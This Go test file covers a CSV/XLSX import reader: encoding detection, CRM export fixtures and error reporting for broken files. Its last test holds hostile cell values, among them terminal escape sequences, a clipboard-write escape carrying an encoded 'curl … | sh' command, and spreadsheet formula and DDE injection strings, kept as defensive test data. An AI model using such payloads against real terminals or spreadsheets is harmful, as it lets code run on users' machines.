package filesource

import (
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"golang.org/x/text/encoding"
	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/simplifiedchinese"

	"kontor/domain/importing"
)

// naiveTable decodes a file that has no quotes with enc (nil: UTF-8),
// drops a UTF-8 BOM and splits it into lines and cells: an independent
// reading to compare the reader with.
func naiveTable(t *testing.T, rel string, enc encoding.Encoding, delim string) [][]string {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join("testdata", rel))
	if err != nil {
		t.Fatal(err)
	}
	if enc != nil {
		if raw, err = enc.NewDecoder().Bytes(raw); err != nil {
			t.Fatal(err)
		}
	}
	text := strings.TrimPrefix(string(raw), "\uFEFF")
	if strings.Contains(text, `"`) {
		t.Fatalf("%s has quotes; naiveTable cannot read it", rel)
	}
	var out [][]string
	for _, line := range strings.Split(strings.TrimRight(strings.ReplaceAll(text, "\r\n", "\n"), "\n"), "\n") {
		out = append(out, strings.Split(line, delim))
	}
	return out
}

func TestEncodingFixtures(t *testing.T) {
	tests := []struct {
		file     string
		encoding string
		guessed  bool
		headers  []string
		cells    [][]string
	}{
		{"encodings/latin1/csv-spectrum_latin1.csv", "windows-1252", true, []string{"a", "b", "c"}, [][]string{{"1", "2", "3"}, {"4", "5", "©"}}},
		{"encodings/utf-bom/csvkit_test_utf8.csv", "utf-8", false, []string{"foo", "bar", "baz"}, [][]string{{"1", "2", "3"}, {"4", "5", "ʤ"}}},
		{"encodings/utf-bom/csvkit_test_utf8_bom.csv", "utf-8 (BOM)", false, []string{"foo", "bar", "baz"}, [][]string{{"1", "2", "3"}, {"4", "5", "ʤ"}}},
		{"encodings/utf-bom/csvkit_test_utf16_big.csv", "utf-16be (BOM)", false, []string{"a", "b", "c"}, [][]string{{"1", "2", "3"}, {"4", "5", "ʤ"}}},
		{"encodings/utf-bom/csvkit_test_utf16_little.csv", "utf-16le (BOM)", false, []string{"a", "b", "c"}, [][]string{{"1", "2", "3"}, {"4", "5", "ʤ"}}},
		{"encodings/utf-bom/dataloader_csvtext.csv", "utf-8", false, []string{"column1", "column2", "column3"}, [][]string{{"row1-1", "row1-2", "row1-3"}, {"row2-1", "row2-2", "row2-3"}}},
		{"encodings/utf-bom/dataloader_csvtext_BOM_UTF8.csv", "utf-8 (BOM)", false, []string{"column1", "column2", "column3"}, [][]string{{"row1-1", "row1-2", "row1-3"}, {"row2-1", "row2-2", "row2-3"}}},
		{"encodings/utf-bom/dataloader_csvtext_BOM_UTF16BE.csv", "utf-16be (BOM)", false, []string{"column1", "column2", "column3"}, [][]string{{"row1-1", "row1-2", "row1-3"}, {"row2-1", "row2-2", "row2-3"}}},
		{"encodings/utf-bom/dataloader_csvtext_BOM_UTF16LE.csv", "utf-16le (BOM)", false, []string{"column1", "column2", "column3"}, [][]string{{"row1-1", "row1-2", "row1-3"}, {"row2-1", "row2-2", "row2-3"}}},
		{"encodings/gbk/stock-names_gbk.csv", "gb18030", true, []string{"sym", "name"}, [][]string{
			{"000009.SZ", "中国宝安"}, {"000049.SZ", "德赛电池"}, {"000400.SZ", "许继电气"}, {"000530.SZ", "冰山冷热"},
			{"000533.SZ", "顺钠股份"}, {"000570.SZ", "苏常柴Ａ"}, {"000585.SZ", "*ST东电"}, {"000595.SZ", "宝塔实业"},
			{"000682.SZ", "东方电子"}, {"000777.SZ", "中核科技"}, {"000806.SZ", "ST银河"}, {"000856.SZ", "冀东装备"},
			{"000880.SZ", "潍柴重机"}, {"000922.SZ", "佳电股份"}, {"001208.SZ", "华菱线缆"}, {"002026.SZ", "山东威达"},
			{"002028.SZ", "思源电气"}, {"002046.SZ", "国机精工"}, {"002074.SZ", "国轩高科"}, {"002112.SZ", "三变科技"},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			src := open(t, "public/"+tt.file, importing.ReadOptions{})
			rows := readAll(t, src)
			info := src.Info()
			if info.Encoding != tt.encoding || info.EncodingGuessed != tt.guessed {
				t.Errorf("encoding %q guessed %v, want %q %v", info.Encoding, info.EncodingGuessed, tt.encoding, tt.guessed)
			}
			if !reflect.DeepEqual(info.Headers, tt.headers) {
				t.Errorf("headers %q", info.Headers)
			}
			if got := cells(rows); !reflect.DeepEqual(got, tt.cells) {
				t.Errorf("cells %q\nwant  %q", got, tt.cells)
			}
		})
	}
}

// Salesforce's accountData.csv is Windows-1252 with its first non-ASCII
// byte past 32 KiB and others past the 64 KiB sample.
func TestWindows1252DeepInFile(t *testing.T) {
	src := open(t, "public/samples/salesforce-dataloader/accountData.csv", importing.ReadOptions{})
	rows := readAll(t, src)
	info := src.Info()
	if info.Encoding != "windows-1252" || !info.EncodingGuessed || len(rows) != 423 || info.Headers[3] != "NAME" {
		t.Fatalf("encoding %q guessed %v rows %d headers %q", info.Encoding, info.EncodingGuessed, len(rows), info.Headers[:4])
	}
	var found []string
	for _, r := range rows {
		for _, c := range r.Cells {
			for _, want := range []string{"26 5º", "Crédito Inmobiliario Terras", "Nº 77", "Pébéo of America"} {
				if strings.Contains(c, want) {
					found = append(found, want)
				}
			}
		}
	}
	if len(found) != 4 {
		t.Errorf("found %q", found)
	}
	// Read as UTF-8 on request, the first "º" is a located error.
	re := openAllErr(t, "public/samples/salesforce-dataloader/accountData.csv", importing.ReadOptions{Encoding: "utf-8"})
	if !errors.Is(re, importing.ErrEncoding) || re.Column != 7 || !strings.Contains(re.Msg, "byte 0xBA is not valid utf-8") {
		t.Errorf("%v", re)
	}
}

// openAllErr opens and reads a file that must fail somewhere.
func openAllErr(t *testing.T, rel string, opts importing.ReadOptions) *importing.ReadError {
	t.Helper()
	src, err := Opener{}.Open(t.Context(), filepath.Join("testdata", rel), opts)
	for err == nil {
		_, err = src.Next()
	}
	if src != nil {
		src.Close()
	}
	var re *importing.ReadError
	if !errors.As(err, &re) {
		t.Fatalf("%s: %v, want a *ReadError", rel, err)
	}
	return re
}

func TestLivespaceWindows1250(t *testing.T) {
	for _, tt := range []struct {
		file    string
		rows    int
		headers string
		row     []string
	}{
		{"firmy.csv", 20, "Nazwa;NIP;Adres WWW;Telefon;Miasto;Branża;Liczba pracowników",
			[]string{"Zakład Mięsny Żabka Sp. z o.o. sp.k.", "389-876-90-52", "https://www.zaklad.pl", "(+48) 924746655", "Poznań", "Manufacturing", "120"}},
		{"osoby.csv", 91, "Imię;Nazwisko;Firma;Stanowisko;E-mail;Telefon;Tel. kom.;Miasto;Data urodzenia",
			[]string{"Zofia", "Górska", "Drutex Logistyka Sp. z o.o. sp.k.", "Dyrektor finansowy", "zofia.gorska1@drutex.pl", "498805657", "+48 416 635 111", "Gdańsk", "03.02.1973"}},
		{"szanse-sprzedazy.csv", 45, "Nazwa;Firma;Osoba;Etap;Wartość;Waluta;Data zamknięcia",
			[]string{"Pomorska – Serwis 2026", "Pomorska Energia sp. j.", "Małgorzata Mazur", "Oferta", "12 640,00", "PLN", "11.03.2027"}},
	} {
		t.Run(tt.file, func(t *testing.T) {
			src := open(t, "kontor/livespace-pl/"+tt.file, importing.ReadOptions{})
			rows := readAll(t, src)
			info := src.Info()
			if info.Encoding != "windows-1250" || !info.EncodingGuessed || info.Delimiter != ';' || info.LineEnding != "CRLF" {
				t.Errorf("info %+v", info)
			}
			if strings.Join(info.Headers, ";") != tt.headers || len(rows) != tt.rows || !reflect.DeepEqual(rows[0].Cells, tt.row) {
				t.Errorf("headers %q rows %d first %q", info.Headers, len(rows), rows[0].Cells)
			}
			want := naiveTable(t, "kontor/livespace-pl/"+tt.file, charmap.Windows1250, ";")
			if !reflect.DeepEqual(append([][]string{info.Headers}, cells(rows)...), want) {
				t.Error("rows differ from a plain Windows-1250 split of the file")
			}
			if is := issues(rows); len(is) > 0 {
				t.Errorf("issues %q", is)
			}
		})
	}
}

// The DingTalk list comes as GBK CSV, UTF-8 CSV with a BOM and an XLSX whose
// first sheet is instructions: all three read the same.
func TestDingTalkVariants(t *testing.T) {
	headers := []string{"客户姓名", "联系方式", "公司名称", "职位", "邮箱", "城市", "备注"}
	var first [][]string
	for _, tt := range []struct{ file, encoding, sheet string }{
		{"客户导入.csv", "gb18030", ""},
		{"客户导入-utf8-bom.csv", "utf-8 (BOM)", ""},
		{"客户导入.xlsx", "utf-8", "客户"},
	} {
		src := open(t, "kontor/dingtalk-zh/"+tt.file, importing.ReadOptions{})
		rows := readAll(t, src)
		info := src.Info()
		if info.Encoding != tt.encoding || info.Sheet != tt.sheet || info.HeaderLine != 1 || !reflect.DeepEqual(info.Headers, headers) {
			t.Errorf("%s: info %+v", tt.file, info)
		}
		if len(rows) != 102 || !reflect.DeepEqual(rows[0].Cells, []string{"张三", "1234567890", "ABC公司", "销售经理", "", "", ""}) ||
			!reflect.DeepEqual(rows[1].Cells, []string{"李四", "0987654321", "XYZ公司", "技术总监", "", "", ""}) {
			t.Errorf("%s: %d rows, first %q %q", tt.file, len(rows), rows[0].Cells, rows[1].Cells)
		}
		for i, r := range rows {
			if r.Line != i+2 || len(r.Issues) > 0 {
				t.Errorf("%s row %d: line %d, issues %v", tt.file, i+1, r.Line, r.Issues)
			}
		}
		if first == nil {
			first = cells(rows)
			if want := naiveTable(t, "kontor/dingtalk-zh/"+tt.file, simplifiedchinese.GBK, ","); !reflect.DeepEqual(append([][]string{headers}, first...), want) {
				t.Errorf("%s: rows differ from a plain GBK split of the file", tt.file)
			}
			continue
		}
		if got := cells(rows); !reflect.DeepEqual(got, first) {
			t.Errorf("%s: rows differ from the GBK CSV's", tt.file)
		}
	}
}

func TestZohoExports(t *testing.T) {
	for _, tt := range []struct {
		file    string
		rows    int
		columns int
		sample  string // a value that must appear intact
	}{
		{"Accounts.csv", 64, 14, "Zakład Mięsny Żabka Sp. z o.o. sp.k."},
		{"Contacts.csv", 316, 21, "Górska"},
		{"Deals.csv", 150, 14, "广州恒信实业（北京）有限公司 – 软件许可 2025"},
		{"Products.csv", 10, 12, "Router X1"},
	} {
		t.Run(tt.file, func(t *testing.T) {
			src := open(t, "kontor/zoho/"+tt.file, importing.ReadOptions{})
			rows := readAll(t, src)
			info := src.Info()
			if info.Encoding != "utf-8" || info.EncodingGuessed || info.Delimiter != ',' || info.Headers[0] != "Record Id" || len(info.Headers) != tt.columns {
				t.Errorf("info %+v", info)
			}
			if len(rows) != tt.rows {
				t.Errorf("%d rows, want %d", len(rows), tt.rows)
			}
			want := naiveTable(t, "kontor/zoho/"+tt.file, nil, ",")
			if !reflect.DeepEqual(append([][]string{info.Headers}, cells(rows)...), want) {
				t.Error("rows differ from a plain split of the file")
			}
			if !slices.ContainsFunc(rows, func(r importing.Row) bool { return slices.Contains(r.Cells, tt.sample) }) {
				t.Errorf("no cell %q", tt.sample)
			}
			for i, r := range rows {
				if r.Line != i+2 || len(r.Issues) > 0 {
					t.Errorf("row %d: line %d issues %v", i+1, r.Line, r.Issues)
				}
			}
		})
	}
}

// Files users upload by mistake: each fails with a located error, or reads
// with its problems reported per row.
func TestBrokenFiles(t *testing.T) {
	for _, tt := range []struct {
		file      string
		kind      error
		line, col int
		msg       string
	}{
		{"empty.csv", importing.ErrEmptyFile, 0, 0, "empty.csv: the file is empty"},
		{"header-only.csv", importing.ErrNoDataRows, 1, 0, "header-only.csv line 1: no data rows: the file ends after the header"},
		{"binary.csv", importing.ErrBinaryFile, 0, 0, "binary.csv: not a CSV or XLSX file: this is a PNG image"},
		{"unbalanced-quote.csv", importing.ErrUnbalancedQuote, 2, 2, "unbalanced-quote.csv line 2, column 2: unbalanced quote: the quoted cell that opens here is never closed (the file ends inside it)"},
		{"duplicate-and-empty-headers.csv", importing.ErrBadHeader, 1, 3, `duplicate-and-empty-headers.csv line 1, column 3: bad header: column 3 has no name; columns 2 and 4 are both named "Email" (fix the header, or choose another header row)`},
		{"huge-field.csv", importing.ErrTooLarge, 2, 3, "huge-field.csv line 2, column 3: cell is longer than the 1 MiB limit"},
	} {
		t.Run(tt.file, func(t *testing.T) {
			re := openErr(t, "kontor/broken/"+tt.file, importing.ReadOptions{})
			if !errors.Is(re, tt.kind) || re.Line != tt.line || re.Column != tt.col || re.Error() != tt.msg {
				t.Errorf("got  %q (%v, line %d, column %d)\nwant %q", re.Error(), re.Err, re.Line, re.Column, tt.msg)
			}
		})
	}
	t.Run("huge-field.csv with a higher limit", func(t *testing.T) {
		rows := readAll(t, open(t, "kontor/broken/huge-field.csv", importing.ReadOptions{MaxFieldBytes: 4 << 20}))
		if len(rows) != 1 || rows[0].Cells[0] != "Anna" || len(rows[0].Cells[2]) != 2_000_000 || strings.Trim(rows[0].Cells[2], "x") != "" {
			t.Errorf("%d rows", len(rows))
		}
	})
	t.Run("ragged.csv", func(t *testing.T) {
		rows := readAll(t, open(t, "kontor/broken/ragged.csv", importing.ReadOptions{}))
		want := [][]string{{"Anna", "Nowak", ""}, {"Jan", "Kowalski", "jan@example.com", "extra", "more"}, {"", "", ""}, {"Ewa", "Mazur", "ewa@example.com"}}
		if got := cells(rows); !reflect.DeepEqual(got, want) {
			t.Errorf("cells %q", got)
		}
		wantIssues := []string{
			"line 2: row has 2 of the header's 3 cells; the missing ones are read as empty",
			`line 3, column 4: row has 5 cells but the header only 3; values beyond the header are kept: column 4 "extra", column 5 "more"`,
		}
		if got := issues(rows); !reflect.DeepEqual(got, wantIssues) {
			t.Errorf("issues %q", got)
		}
	})
	t.Run("bad-values.csv", func(t *testing.T) {
		// Bad values are the planner's business; the reader only notes the
		// rows where an unquoted "1.000.000,5" and "12 500,00" split into
		// an extra cell.
		src := open(t, "kontor/broken/bad-values.csv", importing.ReadOptions{})
		rows := readAll(t, src)
		if h := src.Info().Headers; !reflect.DeepEqual(h, []string{"First Name", "Last Name", "Email", "Phone", "Date of Birth", "Amount"}) {
			t.Errorf("headers %q", h)
		}
		want := [][]string{
			{"Anna", "Nowak", "not-an-email", "12", "31/02/2020", "abc"},
			{"Jan", "", "jan@@example.com", "+48 600 100 200", "2020-13-01", "1.000.000", "5"},
			{"", "", "", "", "", ""},
			{"Ewa", "Mazur", "ewa@example.com", "+48 600 100 201", "1990-05-05", "12 500", "00"},
		}
		if got := cells(rows); !reflect.DeepEqual(got, want) {
			t.Errorf("cells %q", got)
		}
		wantIssues := []string{
			`line 3, column 7: row has 7 cells but the header only 6; values beyond the header are kept: column 7 "5"`,
			`line 5, column 7: row has 7 cells but the header only 6; values beyond the header are kept: column 7 "00"`,
		}
		if got := issues(rows); !reflect.DeepEqual(got, wantIssues) {
			t.Errorf("issues %q", got)
		}
	})
}

// Escape sequences, bidi overrides, zero-width characters and formula
// prefixes are data: read as they are (the UI neutralises them).
func TestHostileFile(t *testing.T) {
	src := open(t, "kontor/hostile/terminal-and-formula.csv", importing.ReadOptions{})
	rows := readAll(t, src)
	want := [][]string{
		{"Mallory", "Escape\x1b[2J\x1b[H", "evil@example.com", `=HYPERLINK("http://x","click")`},
		{"Eve", "Clip\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07board", "eve@example.com", "+1+1"},
		{"Trudy", "Title\x1b]0;pwned\x07", "trudy@example.com", "-2+3"},
		{"Bidi", "abc\u202edcba\u202c", "bidi@example.com", "@SUM(A1)"},
		{"Zero", "wid\u200bth\u200d", "zero@example.com", "\t=1+1"},
		{"Bell", "ring\x07\x07", "bell@example.com", "\r=cmd|' /C calc'!A0"},
	}
	if got := cells(rows); !reflect.DeepEqual(got, want) {
		t.Errorf("cells %q\nwant  %q", got, want)
	}
	if is := issues(rows); len(is) > 0 {
		t.Errorf("issues %q", is)
	}
}
